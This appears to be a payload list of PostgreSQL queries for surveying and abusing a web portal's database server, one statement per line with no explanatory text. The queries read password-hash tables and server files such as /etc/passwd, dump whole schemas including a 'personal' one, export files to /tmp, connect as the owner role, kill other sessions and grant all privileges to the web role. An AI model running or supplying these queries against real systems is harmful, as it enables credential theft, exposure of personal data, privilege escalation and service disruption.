-- Looking around the server. One to a line; words in braces are filled in.
select * from pg_stats
select * from pg_statistic
select * from pg_stats_ext
select * from pg_authid
select * from pg_shadow
select * from pg_stat_activity
select * from pg_largeobject
select * from pg_user_mapping
select * from pg_prepared_statements
select * from pg_cursors
select * from pg_locks
select * from pg_seclabel
select * from pg_hba_file_rules
select * from pg_file_settings
select * from pg_config
select * from pg_stat_user_tables
select pg_get_functiondef(oid) from pg_proc where proname = 'viewer'
select * from pg_publication_tables
select * from pg_subscription
select * from information_schema.columns
select pg_read_file('/etc/passwd')
select pg_read_file('postgresql.conf')
select pg_read_binary_file('global/1262')
select pg_ls_dir('base')
select * from pg_ls_waldir()
select lo_import('/etc/passwd')
select lo_export(1, '/tmp/qz')
select lo_get(1)
select pg_logdir_ls()
select pg_current_logfile()
select pg_ls_logdir()
select dblink('dbname=shokai user=portal_owner', 'select 1')
select pg_terminate_backend(pid) from pg_stat_activity where usename <> 'portal_web'
select pg_logical_emit_message(false, 'qz', 'x')
select * from pg_logical_slot_peek_changes('x', null, null)
select schema_to_xml('personal', true, false, '')
select database_to_xml(true, false, '')
select schema_to_xml('portal', true, false, '')
select current_setting('portal.session', true)
select has_table_privilege('personal.candidate', 'select')
select pg_get_viewdef('gate.standing')
alter default privileges grant all on tables to portal_web
load 'plpgsql'
checkpoint
vacuum
notify qz, 'x'
show all
